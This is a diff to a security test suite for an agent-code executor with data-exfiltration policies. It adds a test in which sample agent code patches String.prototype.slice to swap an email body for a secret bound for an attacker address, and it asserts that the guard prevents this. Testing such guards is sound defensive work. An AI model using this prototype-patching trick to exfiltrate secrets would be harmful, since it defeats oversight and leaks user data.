@@ -5,6 +5,7 @@ import {
   CLIENT,
   describeResult,
   launderingHarness,
+  SECRET,
   scenario,
   securedExecutors,
   USER_ADDRESS,
@@ -98,5 +99,30 @@ describe('ast review (inherited setters on the errors the bootstrap makes): laun
       /^security_violation: The call to api\.email\.send was blocked \(policy preventDataExfiltration\): parameter "body" carries data from [a-z:.+ ]*tool:vault\.unlock/,
     );
     expect(world.sent).toEqual([]);
+  });
+});
+
+describe('ast review (string methods the bootstrap calls): the labels describe the call the host receives', () => {
+  const { setup, LOAD } = launderingHarness();
+
+  it('a String.prototype.slice of agent code cannot swap the input sent with the labels of another', async () => {
+    const { executor, sent } = setup();
+    // The call as made carries no labelled data; a patched slice, had the bootstrap used it to append the
+    // labels, would put the secret in its place after the labels were computed.
+    const code = `${LOAD}
+      const realSlice = String.prototype.slice;
+      String.prototype.slice = function (start, end) {
+        const text = String(this);
+        if (text.indexOf('"path":"email.send"') >= 0)
+          return '{"path":"email.send","input":{"to":"${ATTACKER}","subject":"x","body":' + JSON.stringify(secret) + '}';
+        return realSlice.call(text, start, end);
+      };
+      await api.email.send({ to: '${ATTACKER}', subject: 'x', body: 'harmless' });
+      String.prototype.slice = realSlice;
+      return 'done';`;
+    const result = await executor.execute(code, CLIENT);
+    expect(describeResult(result)).toBe('completed: "done"');
+    expect(sent).toEqual([{ to: ATTACKER, subject: 'x', body: 'harmless' }]);
+    expect(JSON.stringify(sent)).not.toContain(SECRET);
   });
 });
